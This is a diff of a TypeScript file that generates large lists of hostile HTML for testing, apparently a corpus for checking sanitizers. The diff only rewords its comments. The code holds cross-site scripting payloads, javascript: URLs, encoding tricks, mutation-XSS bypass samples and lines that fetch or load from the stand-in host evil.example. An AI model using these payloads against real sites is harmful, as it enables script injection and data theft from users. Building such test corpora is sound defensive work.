@@ -1,7 +1,7 @@
-/** What a text would do if it ran: seen as a dialog, a mark on the window, or a request that leaves the origin. */
+/** What a text would do if it ran: show a dialog, mark the window, or send a request to another origin. */
 const deeds = ['alert(1)', 'window.__hit=1', "fetch('//evil.example/f')"]
 
-/** Ways out of the place that a text may stand in. */
+/** Ways to break out of the surrounding context. */
 const breakOuts = [
   '',
   '">',
@@ -21,7 +21,7 @@ const breakOuts = [
   '&quot;&gt;',
 ]
 
-/** Elements that run something by themselves or at a touch; `@` is what they run. */
+/** Elements that run code by themselves or on a touch; `@` is the code. */
 const elements = [
   '<script>@</script>',
   '<script type=module>@</script>',
@@ -80,7 +80,7 @@ const followed = [
   '[x](@)',
 ]
 
-/** Addresses that run something, some in disguise. */
+/** Addresses that run code, some disguised. */
 const scriptAddresses = [
   'javascript:alert(1)',
   'JaVaScRiPt:alert(1)',
@@ -98,7 +98,7 @@ const scriptAddresses = [
   '//evil.example/x.js',
 ]
 
-/** Disguises that a decoder on the way may take off, so that markup comes to light. */
+/** Disguises that a decoder might remove, so that the markup reappears. */
 const disguises: readonly ((text: string) => string)[] = [
   (text) => text.replaceAll('<', '&lt;').replaceAll('>', '&gt;'),
   (text) => text.replaceAll('<', '&#x3c').replaceAll('>', '&#62'),
@@ -115,7 +115,7 @@ const disguises: readonly ((text: string) => string)[] = [
   (text) => text.replaceAll(' ', '/'),
 ]
 
-/** What changes its meaning when it is parsed a second time, or hides from who looks for markup. */
+/** Markup that changes its meaning when it is parsed twice, or hides from scanners. */
 const shifting = [
   '<math><mtext><table><mglyph><style><img src=x onerror=alert(1)>',
   '<svg></p><style><a id="</style><img src=x onerror=alert(1)>">',
@@ -167,7 +167,7 @@ function cross(
 
 const running = cross(elements, deeds, (element, deed) => element.replace('@', deed))
 
-/** Some 2,500 texts that would run a script or load something from elsewhere if they were ever taken for markup. */
+/** Some 2,500 texts that would run a script or load something if they were ever treated as markup. */
 export const hostileMarkup: readonly string[] = [
   ...new Set([
     ...cross(breakOuts, running, (way, text) => `${way}${text}`),
@@ -179,7 +179,7 @@ export const hostileMarkup: readonly string[] = [
   ]),
 ]
 
-/** What loads something in some browser or reader of mail; `@` is the address. */
+/** Markup that loads something in some browser or mail reader; `@` is the address. */
 const loading = [
   '<img src="@">',
   '<img srcset="@ 1x, @ 2x">',
@@ -242,7 +242,7 @@ const loading = [
   '![x](@)',
 ]
 
-/** Some 230 texts of which each would have a careless page load something from `evil.example`. */
+/** Some 230 texts, each of which would make a careless page load something from `evil.example`. */
 export const requestMarkup: readonly string[] = cross(
   loading,
   ['https://evil.example/leak', 'http://evil.example/leak', '//evil.example/leak', '\\\\evil.example\\leak'],
